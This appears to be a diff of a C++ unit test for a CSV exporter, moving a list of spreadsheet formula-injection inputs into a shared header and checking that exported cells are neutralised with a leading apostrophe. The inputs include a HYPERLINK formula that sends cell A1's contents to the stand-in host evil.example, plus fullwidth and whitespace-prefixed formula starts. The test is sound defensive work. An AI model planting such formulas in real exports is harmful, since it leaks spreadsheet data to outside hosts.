@@ -9,28 +9,11 @@
 #include <string>
 #include <vector>
 
+#include "tests/support/spreadsheet_formulas.h"
 #include "tests/unit/studio/export/readers.h"
 
 namespace yst::exporter {
 namespace {
-
-// The inputs of the issue: formulas in every form Excel runs.
-const std::vector<std::string> kFormulas = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
-    "+1+1",
-    "@SUM(1)",
-    "\xEF\xBC\x8D"
-    "1",  // －1
-    "\t=1",
-    "\r=1",
-    "-1",
-    "\xEF\xBC\x9D"
-    "1",  // ＝1
-    "\xEF\xBC\x8B"
-    "1",  // ＋1
-    "\xEF\xBC\xA0"
-    "SUM(1)",  // ＠SUM(1)
-};
 
 TEST(OneLine, FoldsEveryKindOfLineBreakIntoOneSpace) {
   EXPECT_EQ(oneLine("a\nb"), "a b");
@@ -70,13 +53,13 @@ TEST(OneLine, DropsControlCharactersAndKeepsTheTextAroundThem) {
 }
 
 TEST(CsvCell, NeutralisesEveryFormulaStart) {
-  for (const std::string& formula : kFormulas) {
+  for (const std::string& formula : test::kSpreadsheetFormulas) {
     const std::vector<std::vector<std::string>> rows = readers::parseCsv(csvCell(formula));
     ASSERT_EQ(rows.size(), 1u) << formula;
     ASSERT_EQ(rows[0].size(), 1u) << formula;
     EXPECT_EQ(rows[0][0], "'" + formula);
   }
-  EXPECT_EQ(csvCell(kFormulas[0]),
+  EXPECT_EQ(csvCell(test::kSpreadsheetFormulas[0]),
             "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\"");
 }
 
